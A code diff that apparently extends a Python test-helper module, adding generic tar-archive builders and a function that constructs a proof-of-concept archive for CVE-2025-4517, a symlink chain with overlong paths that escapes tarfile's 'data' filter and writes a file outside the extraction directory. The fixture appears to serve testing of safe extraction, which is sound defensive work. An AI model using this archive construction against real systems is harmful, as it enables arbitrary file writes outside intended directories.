@@ -13,7 +13,7 @@ import sys
 import tarfile
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 from click.testing import CliRunner
 
@@ -144,3 +144,56 @@ def tgz(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
             info.type, info.linkname = tarfile.SYMTYPE, target
             tar.addfile(info)
     return buffer.getvalue()
+
+
+class _Zeros(io.RawIOBase):
+    def __init__(self, size: int) -> None:
+        self.left = size
+
+    def readable(self) -> bool:
+        return True
+
+    def readinto(self, buffer: bytearray) -> int:  # type: ignore[override]
+        n = min(len(buffer), self.left)
+        buffer[:n] = bytes(n)
+        self.left -= n
+        return n
+
+
+def tar_archive(path: Path, entries: list[tuple[str, str, object]], mode: Literal["w", "w:gz"] = "w") -> Path:
+    """Entries: (name, kind, payload): kind file (bytes or a size of zeros), dir, sym/lnk (link target), fifo."""
+    with tarfile.open(path, mode) as tar:
+        for name, kind, payload in entries:
+            info = tarfile.TarInfo(name)
+            if kind == "file":
+                data = payload if isinstance(payload, bytes) else None
+                info.size = len(data) if data is not None else int(payload)  # type: ignore[call-overload]
+                tar.addfile(info, io.BytesIO(data) if data is not None else io.BufferedReader(_Zeros(info.size)))  # type: ignore[type-var]
+                continue
+            info.type = {
+                "dir": tarfile.DIRTYPE,
+                "sym": tarfile.SYMTYPE,
+                "lnk": tarfile.LNKTYPE,
+                "fifo": tarfile.FIFOTYPE,
+            }[kind]
+            info.linkname = str(payload or "")
+            tar.addfile(info)
+    return path
+
+
+def cve_2025_4517_archive(path: Path, outside: Path) -> Path:
+    """The overlong-path symlink chain that walks past ``filter='data'`` on Python < 3.11.13: realpath
+    stops resolving once the path exceeds PATH_MAX, so the final link looks like it stays inside."""
+    component = "d" * 247
+    steps = "abcdefghijklmnop"
+    entries: list[tuple[str, str, object]] = []
+    here = ""
+    for step in steps:
+        entries.append((os.path.join(here, component), "dir", None))
+        entries.append((os.path.join(here, step), "sym", component))
+        here = os.path.join(here, component)
+    long_link = os.path.join(*steps, "l" * 254)
+    entries.append((long_link, "sym", "../" * len(steps)))
+    entries.append(("escape", "sym", f"{long_link}/{'../' * 30}{str(outside).lstrip('/')}"))
+    entries.append(("escape/written-outside", "file", b"pwned"))
+    return tar_archive(path, entries)
